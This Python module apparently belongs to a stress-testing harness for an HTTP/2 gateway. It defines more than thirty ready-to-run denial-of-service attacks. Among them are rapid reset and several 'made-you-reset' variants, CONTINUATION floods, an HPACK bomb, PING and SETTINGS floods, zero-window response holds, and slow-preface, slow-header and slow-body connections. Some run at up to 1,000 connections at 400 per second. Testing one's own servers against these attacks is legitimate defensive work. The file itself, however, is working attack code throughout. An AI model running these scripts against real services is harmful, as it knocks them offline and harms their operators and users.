"""Attacks on HTTP/2. Frames are bytes made beforehand, once for each process."""

import asyncio
from functools import cache

import frames
from frames import END_STREAM, LARGEST_WINDOW, frame, headers, request, window_update
from storm import Attack

FAST = b"/fast?by=attack"
GET = request(b"GET", FAST)
LARGE = request(b"GET", b"/large?mib=1")
POST = request(b"POST", b"/take")
# What is answered without a look at its body.
UNREAD_POST = request(b"POST", b"/up")
# No dynamic table, so that the statuses of answers can be read.
HELLO = frames.PREFACE + frames.settings((frames.HEADER_TABLE_SIZE, 0))
CHUNK = 16 << 10
# Ids of a client's streams: as many as one connection of an attack has use for.
STREAMS = range(1, 40_001, 2)


@cache
def per_stream(make):
    """make(stream) for all streams, in pieces of some KiB."""
    pieces, piece = [], b""
    for stream in STREAMS:
        piece += make(stream)
        if len(piece) >= CHUNK:
            pieces.append(piece)
            piece = b""
    return [*pieces, piece]


def many(one):
    return one * max(1, CHUNK // len(one))


async def forever(wire, chunk):
    while True:
        await wire.send(chunk)


def on_streams(make, reading=True):
    """The same on each new stream, until there are no more ids."""

    async def script(wire):
        async def sending():
            await wire.send(HELLO)
            await wire.play(per_stream(make))
            await asyncio.sleep(1)  # for what the gateway has to say to all that

        await wire.beside(sending(), reading)

    return script


def flood(chunk, first=b"", reading=True):
    """The same bytes for ever."""

    async def script(wire):
        async def sending():
            await wire.send(HELLO + first)
            await forever(wire, many(chunk))

        await wire.beside(sending(), reading)

    return script


def rapid_reset(stream):
    return headers(stream, GET) + frames.rst_stream(stream)


def window_zero(stream):
    return headers(stream, GET) + window_update(stream, 0)


def window_overflow(stream):
    return headers(stream, GET) + window_update(stream, LARGEST_WINDOW)


def data_after_end(stream):
    return headers(stream, GET) + frame(frames.DATA, END_STREAM, stream, b"x")


def depends_on_itself(stream):
    return headers(stream, GET) + frames.priority(stream, stream)


def length_that_lies(stream):
    return headers(stream, request(b"POST", b"/take", (b"content-length", b"5")), False) + frame(
        frames.DATA, END_STREAM, stream, b"x"
    )


def no_pseudo_headers(stream):
    return headers(stream, b"")


def open_upload(stream):
    return headers(stream, POST, end_stream=False)


def hpack_bomb(stream):
    """One entry that fills the table, then 8,000 times the one byte that means it."""
    entry = frames.indexed_literal(b"x", b"y" * 4000) if stream == 1 else b""
    return headers(stream, GET + entry + b"\xbe" * 8000)


# A header block without an end, in pieces.
FILLER = b"".join(frames.literal(b"x-%03d" % number, b"y" * 100) for number in range(100))


def unread(window, dribble=False):
    """100 responses of 1 MiB each, which the windows hold back, or only TCP does."""

    async def script(wire):
        hello = frames.PREFACE + frames.settings((frames.HEADER_TABLE_SIZE, 0), (frames.INITIAL_WINDOW_SIZE, window))
        if window:
            hello += window_update(0, LARGEST_WINDOW - 65_535)
        await wire.send(hello + b"".join(headers(stream, LARGE) for stream in range(1, 201, 2)))
        if window:
            await asyncio.Event().wait()
        await wire.beside(dribbling(wire) if dribble else asyncio.Event().wait())

    async def dribbling(wire):
        while True:
            await asyncio.sleep(1)
            await wire.send(b"".join(window_update(stream, 1) for stream in range(1, 201, 2)))

    return script


async def bytes_of_preface(wire):
    async def sending():
        for byte in frames.PREFACE * 2:
            await wire.send(bytes((byte,)))
            await asyncio.sleep(1)

    await wire.beside(sending())


async def preface_alone(wire):
    await wire.send(frames.PREFACE)
    await wire.hear_all()


async def idle(wire):
    await wire.send(HELLO)
    await wire.hear_all()


async def slow_headers(wire):
    """A header block of which a byte comes every second."""

    async def sending():
        await wire.send(HELLO + headers(1, b"", end_headers=False))
        for byte in GET * 2:
            await wire.send(frame(frames.CONTINUATION, 0, 1, bytes((byte,))))
            await asyncio.sleep(1)

    await wire.beside(sending())


async def slow_body(wire):
    async def sending():
        await wire.send(HELLO + headers(1, POST, end_stream=False))
        while True:
            await wire.send(frame(frames.DATA, 0, 1, b"x"))
            await asyncio.sleep(1)

    await wire.beside(sending())


async def small_data_unread(wire):
    """Uploads in frames of 16 bytes, as many as the windows let through, to answers that wait for a window: nobody reads them."""

    async def sending():
        await wire.send(frames.PREFACE + frames.settings((frames.HEADER_TABLE_SIZE, 0), (frames.INITIAL_WINDOW_SIZE, 0)))
        await asyncio.sleep(0.2)  # its own settings are here by then: taken, they open the windows they speak of
        await wire.send(frame(frames.SETTINGS, frames.ACK, 0))
        for stream in (1, 3, 5, 7):
            await wire.send(headers(stream, UNREAD_POST, end_stream=False))
            await wire.play([frame(frames.DATA, 0, stream, b"x" * 16) * 1024] * 16)
        await asyncio.Event().wait()

    await wire.beside(sending())


async def streams_beyond_the_limit(wire):
    """1,000 uploads begun on each connection, and none of them ended."""

    async def sending():
        await wire.send(HELLO + b"".join(open_upload(stream) for stream in STREAMS[:1000]))
        await asyncio.Event().wait()

    await wire.beside(sending())


MANY = {"connections": 1000, "per_second": 400}
UNREAD = {"connections": 10, "receive_buffer": 4096}
SETTINGS_CHANGE = frames.settings((frames.INITIAL_WINDOW_SIZE, 65_535))
PING = frame(frames.PING, 0, 0, b"12345678")

ATTACKS = [
    Attack("rapid-reset", "requests that are reset at once", on_streams(rapid_reset)),
    Attack("rapid-reset-tls", "the same over TLS", on_streams(rapid_reset), tls=True),
    Attack("rapid-reset-unread", "the same, reading nothing", on_streams(rapid_reset, reading=False)),
    Attack("made-you-reset-window-0", "WINDOW_UPDATE of 0 on open streams", on_streams(window_zero)),
    Attack("made-you-reset-overflow", "windows beyond 2^31-1", on_streams(window_overflow)),
    Attack("made-you-reset-data", "DATA after END_STREAM", on_streams(data_after_end)),
    Attack("made-you-reset-priority", "streams that depend on themselves", on_streams(depends_on_itself)),
    Attack("made-you-reset-length", "bodies shorter than they say", on_streams(length_that_lies)),
    Attack(
        "continuation",
        "a header block without end, 10 KiB a frame",
        flood(frame(frames.CONTINUATION, 0, 1, FILLER), headers(1, GET, end_headers=False)),
    ),
    Attack(
        "continuation-tls",
        "the same over TLS",
        flood(frame(frames.CONTINUATION, 0, 1, FILLER), headers(1, GET, end_headers=False)),
        tls=True,
    ),
    Attack(
        "continuation-empty",
        "… in frames of no bytes",
        flood(frame(frames.CONTINUATION, 0, 1), headers(1, GET, end_headers=False)),
    ),
    Attack("data-empty", "an upload of empty DATA frames", flood(frame(frames.DATA, 0, 1), open_upload(1))),
    Attack("data-small-unread", "uploads in frames of 16 bytes that nobody reads", small_data_unread, connections=40),
    Attack("headers-empty", "HEADERS without a single field", on_streams(no_pseudo_headers)),
    Attack("settings", "SETTINGS, their ACKs read", flood(SETTINGS_CHANGE)),
    Attack("settings-unread", "SETTINGS, reading nothing", flood(SETTINGS_CHANGE, reading=False)),
    Attack("ping", "PING, the answers read", flood(PING)),
    Attack("ping-tls", "the same over TLS", flood(PING), tls=True),
    Attack("ping-unread", "PING, reading nothing", flood(PING, reading=False)),
    Attack("priority", "PRIORITY on idle streams", flood(b"".join(frames.priority(stream, 0) for stream in STREAMS[:100]))),
    Attack("window-update", "WINDOW_UPDATE of 1", flood(window_update(0, 1))),
    Attack("unknown-frames", "frames of a type that nobody knows", flood(frame(0xFA, 0, 0))),
    Attack("window-zero", "100 responses of 1 MiB, windows of 0", unread(0), **UNREAD),
    Attack("window-dribble", "… one byte a second for each", unread(0, dribble=True), **UNREAD),
    Attack("tcp-unread", "… open windows, TCP not read", unread(LARGEST_WINDOW), **UNREAD),
    Attack("hpack-bomb", "a 4 KB header meant 8,000 times by one byte each", on_streams(hpack_bomb)),
    Attack("streams-beyond-limit", "1,000 uploads on one connection", streams_beyond_the_limit, connections=20),
    Attack("preface-slow", "a byte of the preface every second", bytes_of_preface, **MANY),
    Attack("preface-alone", "the preface and nothing more", preface_alone, **MANY),
    Attack("h2-idle", "idle connections", idle, **MANY),
    Attack("h2-idle-tls", "idle connections, over TLS", idle, tls=True, **MANY),
    Attack("headers-slow", "a byte of the header block every second", slow_headers, **MANY),
    Attack("h2-body-slow", "a byte of the body every second", slow_body, **MANY),
]
